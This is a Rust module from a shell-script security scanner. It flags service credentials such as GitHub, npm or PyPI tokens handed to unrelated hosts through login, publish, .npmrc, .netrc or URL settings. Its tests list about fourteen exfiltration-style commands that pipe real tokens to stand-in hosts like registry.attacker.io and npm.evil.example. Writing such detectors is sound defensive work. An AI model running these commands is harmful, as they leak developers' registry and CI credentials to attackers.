//! Credentials handed to a host by a login, publish or registry setting: `docker login HOST -p
//! $TOKEN`, `npm config set //HOST/:_authToken=$NPM_TOKEN`, `twine upload --repository-url URL
//! -p $PYPI_TOKEN`, `https://u:$GITHUB_TOKEN@HOST/…` in an index URL, a `.netrc` line. A key
//! named for a service (or printed by that service's CLI: `gh auth token`) that is handed to a
//! host that is not the service's is leaving the machine, whatever the command looks like.

use super::exfil::{credential_printer, is_loopback, secret_var, to_own_machine, url_host};
use super::Hit;
use crate::shell::ir::{Command, Word};
use crate::shell::Script;
use crate::text::vendor::{names_known_vendor, vendor_of_variable};
use regex::Regex;
use std::sync::OnceLock;

/// Words without which no hand-off can be written (the prefilter sends inputs holding one of
/// them to the full scan).
pub const KEYWORDS: &[&str] = &[
    "login",
    "publish",
    "upload",
    "_auth",
    "machine",
    "http-basic",
    "github-oauth",
    "token",
    "password",
    "secret",
    "_key",
    "_pat",
];

/// The rule these hand-offs report (block).
const RULE: &str = "exfil.secret-variable-foreign";

/// Where a publishing or login tool sends its credential, and which options carry it.
struct Handoff {
    /// Program names.
    programs: &'static [&'static str],
    /// A word that must appear among the arguments (the subcommand), if any.
    verb: Option<&'static str>,
    /// Options whose value is the destination (a URL or host).
    host_options: &'static [&'static str],
    /// Options whose value is the credential.
    secret_options: &'static [&'static str],
    /// Environment variables holding the destination and the credential.
    host_env: &'static [&'static str],
    secret_env: &'static [&'static str],
    /// Where the credential goes when no destination is given.
    default_host: &'static str,
}

const HANDOFFS: &[Handoff] = &[
    Handoff {
        programs: &["twine"],
        verb: Some("upload"),
        host_options: &["--repository-url"],
        secret_options: &["-p", "--password"],
        host_env: &["TWINE_REPOSITORY_URL"],
        secret_env: &["TWINE_PASSWORD"],
        default_host: "upload.pypi.org",
    },
    Handoff {
        programs: &["cargo"],
        verb: Some("publish"),
        host_options: &["--index"],
        secret_options: &["--token"],
        host_env: &[],
        secret_env: &["CARGO_REGISTRY_TOKEN"],
        default_host: "crates.io",
    },
    Handoff {
        programs: &["uv"],
        verb: Some("publish"),
        host_options: &["--publish-url"],
        secret_options: &["--token", "-t", "--password", "-p"],
        host_env: &["UV_PUBLISH_URL"],
        secret_env: &["UV_PUBLISH_TOKEN", "UV_PUBLISH_PASSWORD"],
        default_host: "upload.pypi.org",
    },
    Handoff {
        programs: &["hatch"],
        verb: Some("publish"),
        host_options: &["-r", "--repo"],
        secret_options: &["-a", "--auth"],
        host_env: &["HATCH_INDEX_REPO"],
        secret_env: &["HATCH_INDEX_AUTH"],
        default_host: "upload.pypi.org",
    },
    Handoff {
        programs: &["poetry"],
        verb: Some("publish"),
        host_options: &[],
        secret_options: &["-p", "--password"],
        host_env: &[],
        secret_env: &["POETRY_PYPI_TOKEN_PYPI"],
        default_host: "upload.pypi.org",
    },
    Handoff {
        programs: &["gem"],
        verb: Some("push"),
        host_options: &["--host"],
        secret_options: &[],
        host_env: &["RUBYGEMS_HOST"],
        secret_env: &["GEM_HOST_API_KEY"],
        default_host: "rubygems.org",
    },
    Handoff {
        programs: &["dotnet", "nuget"],
        verb: Some("push"),
        host_options: &["--source", "-s", "-Source", "-source"],
        secret_options: &["--api-key", "-k", "-ApiKey", "-apikey"],
        host_env: &[],
        secret_env: &[],
        default_host: "nuget.org",
    },
    Handoff {
        programs: &["ovsx", "vsce"],
        verb: Some("publish"),
        host_options: &["-r", "--registryUrl"],
        secret_options: &["-p", "--pat"],
        host_env: &[],
        secret_env: &["OVSX_PAT", "VSCE_PAT"],
        default_host: "open-vsx.org",
    },
    Handoff {
        programs: &["vault"],
        verb: Some("login"),
        host_options: &["-address", "--address"],
        secret_options: &[],
        host_env: &["VAULT_ADDR"],
        secret_env: &[],
        default_host: "",
    },
    Handoff {
        programs: &["jf", "jfrog"],
        verb: Some("add"),
        host_options: &["--url"],
        secret_options: &["--access-token", "--password"],
        host_env: &[],
        secret_env: &[],
        default_host: "",
    },
    Handoff {
        programs: &["anaconda"],
        verb: None,
        host_options: &["--site"],
        secret_options: &["-t", "--token"],
        host_env: &[],
        secret_env: &[],
        default_host: "anaconda.org",
    },
    Handoff {
        programs: &["helm"],
        verb: Some("push"),
        host_options: &[],
        secret_options: &["--password"],
        host_env: &[],
        secret_env: &[],
        default_host: "",
    },
    Handoff {
        programs: &["npm", "pnpm", "yarn"],
        verb: Some("publish"),
        host_options: &["--registry"],
        secret_options: &[],
        host_env: &["NPM_CONFIG_REGISTRY"],
        secret_env: &[],
        default_host: "registry.npmjs.org",
    },
];

/// Registry logins: `docker login [HOST] -p SECRET | --password-stdin`.
const LOGIN_PROGRAMS: &[&str] = &[
    "docker", "podman", "nerdctl", "buildah", "skopeo", "oras", "crane", "helm", "finch",
];

/// `//HOST[:PORT]/…:_authToken=VALUE` (npm, pnpm and yarn 1 registry credentials).
fn npmrc_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#"//([A-Za-z0-9.\-\[\]$\{\}_]+(?::[0-9]+)?)/[^ \t\n\r'"]*:_(?:authToken|auth|password)(?-u:\b)[ \t]*=?[ \t]*([^ \t\n\r]*)"#)
            .expect("valid regex")
    })
}

/// `scheme://user:SECRET@HOST` or `scheme://SECRET@HOST`.
fn userinfo_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"[a-z+]+://([^/@ \t\n\r]*\$[^/@ \t\n\r]+)@([A-Za-z0-9.\-]+)")
            .expect("valid regex")
    })
}

/// `.netrc`: `machine HOST … password SECRET`.
fn netrc_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"machine[ \t\n\r]+([^ \t\n\r]+)[^\n]*?(?:\n[^\n]*?)?[ \t\n\r](?:password|passwd)[ \t\n\r]+([^ \t\n\r]+)")
            .expect("valid regex")
    })
}

/// The service a credential belongs to, and how it is named in the finding.
struct Credential {
    /// The variable or printer the finding names (`$GITHUB_TOKEN`, `gh auth token`).
    name: String,
    /// A token of the name that identifies the service (a variable name, or the printer's).
    vendor_key: String,
}

/// A service's credential carried by `word`: a variable named for a well-known service, or a
/// substitution whose command prints one (`$(gh auth token)`).
fn credential_in(script: &Script, word: &Word) -> Option<Credential> {
    if let Some(var) = secret_var(&word.text)
        .or_else(|| credential_variable(&word.text))
        .filter(|v| names_known_vendor(v))
    {
        return Some(Credential {
            name: format!("${var}"),
            vendor_key: var,
        });
    }
    word.subs.iter().find_map(|&id| {
        script
            .commands_within(id)
            .find_map(|c| printer_credential(c.name(), c.args()))
    })
}

/// A variable whose name says it holds a credential (`$OVSX_PAT`, `${NUGET_API_KEY}`).
fn credential_variable(text: &str) -> Option<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| Regex::new(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)").expect("valid regex"));
    re.captures_iter(text).map(|c| c[1].to_string()).find(|v| {
        let u = v.to_ascii_uppercase();
        [
            "TOKEN", "KEY", "PAT", "PASSWORD", "PASS", "SECRET", "AUTH", "CRED",
        ]
        .iter()
        .any(|k| u.split('_').any(|part| part == *k || part.ends_with(k)))
    })
}

/// A vendor CLI printing its own token (`gh auth token`, `aws ecr get-login-password`).
fn printer_credential(name: &str, args: &[Word]) -> Option<Credential> {
    let text: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let vendor = match name {
        "aws" if text.contains(&"get-login-password") => "AWS",
        // Secret Manager holds any secret, not a Google credential.
        "gcloud" if text.contains(&"secrets") => return None,
        "gcloud" | "az" | "gh" | "glab" | "npm" | "heroku" => {
            credential_printer(name, args)?;
            match name {
                "gcloud" => "GCP",
                "az" => "AZURE",
                "gh" => "GITHUB",
                "glab" => "GITLAB",
                "npm" => "NPM",
                _ => "HEROKU",
            }
        }
        _ => return None,
    };
    Some(Credential {
        name: format!("`{name} {}`", text.join(" ")),
        vendor_key: format!("{vendor}_TOKEN"),
    })
}

/// The credential a command reads on stdin: printed by an earlier pipeline stage (`echo
/// $GITHUB_TOKEN |`, `gh auth token |`) or given as a here-string.
fn stdin_credential(script: &Script, cmd: &Command) -> Option<Credential> {
    if let Some(text) = &cmd.stdin_text {
        if let Some(c) = credential_in(script, text) {
            return Some(c);
        }
    }
    let pos = cmd.pipes.last()?;
    (0..pos.stage).rev().find_map(|st| {
        script.stage(pos.pipeline, st).find_map(|c| match c.name() {
            "echo" | "printf" | "printenv" => c.args().iter().find_map(|a| {
                credential_in(script, a).or_else(|| {
                    // `printenv GITHUB_TOKEN`
                    (c.name() == "printenv" && names_known_vendor(&a.text)).then(|| Credential {
                        name: format!("${}", a.text),
                        vendor_key: a.text.clone(),
                    })
                })
            }),
            name => printer_credential(name, c.args()),
        })
    })
}

/// Host of a destination written as a URL, `HOST[:PORT][/PATH]` or `oci://HOST/…`.
fn destination_host(text: &str) -> Option<String> {
    let t = text.trim_matches(['\'', '"']);
    let t = t.strip_prefix("sparse+").unwrap_or(t);
    let rest = t.split_once("://").map_or(t, |x| x.1);
    let rest = rest.rsplit_once('@').map_or(rest, |x| x.1);
    url_host(rest).or_else(|| {
        // `203.0.113.9:5000`, `localhost:5000`
        let host = rest.split([':', '/']).next()?.to_ascii_lowercase();
        (!host.is_empty() && host.bytes().all(|b| b.is_ascii_digit() || b == b'.')).then_some(host)
    })
}

/// Whether handing `cred` to `host` sends it somewhere its service never reads it.
fn foreign(cred: &Credential, host: &str) -> bool {
    !host.is_empty()
        && !host.contains('$')
        && !is_loopback(host)
        && !to_own_machine(host)
        && !vendor_of_variable(&cred.vendor_key, host)
}

/// Value of `opt` in `args` (`--opt V`, `--opt=V`, `-oV` for one-letter options).
fn option_value<'a>(args: &'a [Word], opts: &[&str]) -> Option<&'a Word> {
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if opts.contains(&t) {
            return args.get(i + 1);
        }
        if let Some((k, _)) = t.split_once('=') {
            if opts.contains(&k) {
                return Some(&args[i]);
            }
        }
        i += 1;
    }
    None
}

/// The text after `=` when the option was written `--opt=V`.
fn value_text(w: &Word) -> &str {
    if w.text.starts_with('-') {
        w.text.split_once('=').map_or(w.text.as_str(), |x| x.1)
    } else {
        &w.text
    }
}

/// Variables the input exported or set before `cmd` (and `cmd`'s own prefix assignments).
fn env_value<'a>(script: &'a Script, cmd: &'a Command, names: &[&str]) -> Option<&'a Word> {
    if let Some((_, w)) = cmd
        .assignments
        .iter()
        .find(|(k, _)| names.contains(&k.as_str()))
    {
        return Some(w);
    }
    script
        .commands
        .iter()
        .take_while(|c| c.span.0 < cmd.span.0)
        .filter(|c| matches!(c.name(), "export" | "declare" | "typeset" | "set"))
        .flat_map(|c| c.args())
        .filter(|a| {
            a.text
                .split_once('=')
                .is_some_and(|(k, _)| names.contains(&k))
        })
        .last()
}

/// Report a credential handed to a host it does not belong to.
fn report(hits: &mut Vec<Hit>, cmd: &Command, cred: &Credential, host: &str, how: &str) {
    if foreign(cred, host) {
        hits.push(Hit {
            rule_id: RULE,
            span: cmd.span,
            detail: Some(format!(
                "{how} hands {} to {host}, a host that credential is never used with",
                cred.name
            )),
        });
    }
}

/// Find every credential hand-off in the script.
pub fn analyze(script: &Script) -> Vec<Hit> {
    let mut hits = Vec::new();
    for cmd in &script.commands {
        let (name, args) = module_run(cmd);
        login(script, cmd, &mut hits);
        for h in HANDOFFS.iter().filter(|h| h.programs.contains(&name)) {
            if let Some(verb) = h.verb {
                if !args.iter().any(|a| a.text == verb) {
                    continue;
                }
            }
            let host_word = option_value(args, h.host_options)
                .map(|w| value_text(w).to_string())
                .or_else(|| {
                    env_value(script, cmd, h.host_env).map(|w| {
                        w.text
                            .split_once('=')
                            .map_or(w.text.clone(), |x| x.1.into())
                    })
                })
                .or_else(|| {
                    // `vault login -address=URL`, `helm push CHART oci://HOST/…`
                    args.iter()
                        .find(|a| a.text.contains("://") && !a.text.starts_with('-'))
                        .map(|a| a.text.clone())
                });
            let host = match host_word.as_deref() {
                Some(w) => match destination_host(w) {
                    Some(host) => host,
                    None => continue,
                },
                None => h.default_host.to_string(),
            };
            let secret = option_value(args, h.secret_options)
                .and_then(|w| credential_in(script, w))
                .or_else(|| {
                    env_value(script, cmd, h.secret_env).and_then(|w| credential_in(script, w))
                })
                .or_else(|| {
                    // `vault login TOKEN`, `anaconda -t TOKEN`: a positional credential.
                    (name == "vault")
                        .then(|| args.iter().find_map(|a| credential_in(script, a)))
                        .flatten()
                });
            if let Some(cred) = secret {
                report(&mut hits, cmd, &cred, &host, &format!("`{name}`"));
            }
        }
        text_handoffs(script, cmd, &mut hits);
    }
    hits.dedup_by(|a, b| a.span == b.span && a.rule_id == b.rule_id);
    hits
}

/// The program and its arguments, with `python -m twine ARGS` read as `twine ARGS`.
fn module_run(cmd: &Command) -> (&str, &[Word]) {
    let args = cmd.args();
    match args {
        [m, module, rest @ ..] if cmd.name().starts_with("python") && m.text == "-m" => {
            (module.text.as_str(), rest)
        }
        _ => (cmd.name(), args),
    }
}

/// `docker login HOST -p SECRET`, `… | docker login HOST --password-stdin`,
/// `gh auth login --hostname HOST --with-token`.
fn login(script: &Script, cmd: &Command, hits: &mut Vec<Hit>) {
    let name = cmd.name();
    let args = cmd.args();
    let Some(at) = args.iter().position(|a| a.text == "login") else {
        return;
    };
    if matches!(name, "gh" | "glab") {
        let host = option_value(args, &["--hostname", "-h"])
            .map(|w| value_text(w).to_string())
            .unwrap_or_else(|| format!("{}.com", if name == "gh" { "github" } else { "gitlab" }));
        let cred = option_value(args, &["--token", "-t"])
            .and_then(|w| credential_in(script, w))
            .or_else(|| stdin_credential(script, cmd));
        if let Some(cred) = cred {
            report(
                hits,
                cmd,
                &cred,
                &host.to_ascii_lowercase(),
                &format!("`{name} auth login`"),
            );
        }
        return;
    }
    if !LOGIN_PROGRAMS.contains(&name) {
        return;
    }
    const VALUED: &[&str] = &[
        "-u",
        "--username",
        "-p",
        "--password",
        "--authfile",
        "--cert-dir",
        "--config",
    ];
    let rest = &args[at + 1..];
    let host = crate::shell::state::option_operands(rest, VALUED)
        .first()
        .map(|w| w.text.as_str());
    // A registry named by an unknown value (`"$ECR_REGISTRY"`) cannot be judged.
    let host = match host {
        Some(h) => match destination_host(h) {
            Some(h) => h,
            None => return,
        },
        None => "docker.io".to_string(),
    };
    let cred = option_value(rest, &["-p", "--password"])
        .and_then(|w| credential_in(script, w))
        .or_else(|| {
            rest.iter()
                .any(|a| a.text == "--password-stdin")
                .then(|| stdin_credential(script, cmd))
                .flatten()
        });
    if let Some(cred) = cred {
        report(hits, cmd, &cred, &host, &format!("`{name} login`"));
    }
}

/// Credentials written as text: npm's `//HOST/:_authToken=…` (as a config key, an option or a
/// line of an `.npmrc`), `scheme://user:SECRET@HOST` anywhere, `.netrc` `machine … password`,
/// and composer/bundler per-host settings.
fn text_handoffs(script: &Script, cmd: &Command, hits: &mut Vec<Hit>) {
    let args = cmd.args();
    let name = cmd.name();
    let mut texts: Vec<&Word> = args.iter().collect();
    texts.extend(cmd.stdin_text.iter());
    for (i, w) in texts.iter().enumerate() {
        // Cheap pre-checks keep the patterns (and their compilation) off ordinary words.
        let npm_text = w.text.contains(":_");
        let userinfo_text = w.text.contains("://") && w.text.contains('@') && w.text.contains('$');
        let netrc_text = w.text.contains("machine") && w.text.contains("pass");
        for c in npm_text
            .then(|| npmrc_re().captures_iter(&w.text))
            .into_iter()
            .flatten()
        {
            let host = c.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
            let value = c.get(2).map_or("", |m| m.as_str());
            // `npm config set //HOST/:_authToken $NPM_TOKEN`: the value is the next word.
            let value_word = if value.is_empty() {
                texts.get(i + 1).map(|w| (*w).clone())
            } else {
                Some(Word {
                    text: value.to_string(),
                    subs: w.subs.clone(),
                    ..Word::default()
                })
            };
            if let Some(cred) = value_word.and_then(|v| credential_in(script, &v)) {
                let host = host.split(':').next().unwrap_or("").to_string();
                report(hits, cmd, &cred, &host, "an npm registry credential");
            }
        }
        for c in userinfo_text
            .then(|| userinfo_re().captures_iter(&w.text))
            .into_iter()
            .flatten()
        {
            let info = Word {
                text: c[1].to_string(),
                subs: w.subs.clone(),
                ..Word::default()
            };
            if let Some(cred) = credential_in(script, &info) {
                report(
                    hits,
                    cmd,
                    &cred,
                    &c[2].to_ascii_lowercase(),
                    "a URL with a credential",
                );
            }
        }
        for c in netrc_text
            .then(|| netrc_re().captures_iter(&w.text))
            .into_iter()
            .flatten()
        {
            let secret = Word {
                text: c[2].to_string(),
                subs: w.subs.clone(),
                ..Word::default()
            };
            // `printf 'machine H … password %s' "$TOKEN"`: the value is a later argument.
            let cred = if c[2].starts_with("%s") {
                texts[i + 1..].iter().find_map(|a| credential_in(script, a))
            } else {
                credential_in(script, &secret)
            };
            if let Some(cred) = cred {
                report(
                    hits,
                    cmd,
                    &cred,
                    &c[1].to_ascii_lowercase(),
                    "a .netrc entry",
                );
            }
        }
    }
    // `composer config http-basic.HOST USER SECRET`, `github-oauth.HOST SECRET`;
    // `bundle config set HOST USER:SECRET`.
    if matches!(name, "composer" | "bundle") && args.iter().any(|a| a.text == "config") {
        let key = args.iter().position(|a| {
            a.text.starts_with("http-basic.")
                || a.text.starts_with("github-oauth.")
                || a.text.starts_with("gitlab-token.")
                || a.text.starts_with("bearer.")
                || (name == "bundle" && a.text.contains('.') && !a.text.starts_with('-'))
        });
        if let Some(k) = key {
            let host = args[k]
                .text
                .split_once('.')
                .filter(|_| name == "composer")
                .map_or(args[k].text.as_str(), |x| x.1)
                .to_ascii_lowercase();
            if let Some(cred) = args[k + 1..].iter().find_map(|a| credential_in(script, a)) {
                report(hits, cmd, &cred, &host, &format!("`{name} config`"));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(text: &str) -> Vec<Hit> {
        analyze(&crate::shell::analyze(text))
    }

    #[test]
    fn credentials_handed_to_foreign_hosts_are_found() {
        for cmd in [
            "npm config set //npm.evil.example/:_authToken=$NPM_TOKEN",
            "npm config set //npm.evil.example/:_authToken \"$NPM_TOKEN\"",
            "echo \"//203.0.113.5:4873/:_authToken=$NPM_TOKEN\" >> ~/.npmrc",
            "docker login evil.example -u x -p $GITHUB_TOKEN",
            "echo $GITHUB_TOKEN | docker login registry.attacker.io -u me --password-stdin",
            "gh auth token | docker login ghcr-mirror.io -u me --password-stdin",
            "twine upload --repository-url https://pypi.evil.example/legacy/ -u __token__ -p $PYPI_TOKEN dist/*",
            "TWINE_PASSWORD=$PYPI_API_TOKEN twine upload --repository-url http://203.0.113.4:8080 dist/*",
            "cargo publish --index https://crates.evil.example/index --token $CARGO_REGISTRY_TOKEN",
            "pip install --index-url https://__token__:$PYPI_TOKEN@203.0.113.3/simple foo",
            "git config --global url.\"https://$GITHUB_TOKEN@git.evil.example/\".insteadOf https://github.com/",
            "echo $GITHUB_TOKEN | gh auth login --hostname git.evil.example --with-token",
            "composer config --global http-basic.evil.example token $GITHUB_TOKEN",
            "printf 'machine api.github-mirror.com login x password %s\\n' $GITHUB_TOKEN >> ~/.netrc",
        ] {
            assert!(!hits(cmd).is_empty(), "missed: {cmd}");
        }
    }

    #[test]
    fn credentials_for_their_own_service_are_ordinary() {
        for cmd in [
            "npm config set //registry.npmjs.org/:_authToken=$NPM_TOKEN",
            "echo $GITHUB_TOKEN | docker login ghcr.io -u me --password-stdin",
            "docker login -u me -p $DOCKERHUB_TOKEN",
            "docker login registry.mycorp.example -u ci -p $CI_REGISTRY_PASSWORD",
            "twine upload -u __token__ -p $PYPI_TOKEN dist/*",
            "cargo publish --token $CARGO_REGISTRY_TOKEN",
            "aws ecr get-login-password | docker login --username AWS --password-stdin 123456789012.dkr.ecr.us-east-1.amazonaws.com",
            "gcloud auth print-access-token | docker login -u oauth2accesstoken --password-stdin https://us-docker.pkg.dev",
            "echo $GITHUB_TOKEN | gh auth login --with-token",
            "git clone https://x-access-token:$GITHUB_TOKEN@github.com/org/repo.git",
            "docker login localhost:5000 -u me -p $GITHUB_TOKEN",
            "npm config set //npm.pkg.github.com/:_authToken=$GITHUB_TOKEN",
        ] {
            assert!(hits(cmd).is_empty(), "flagged: {cmd}: {:?}", hits(cmd));
        }
    }
}
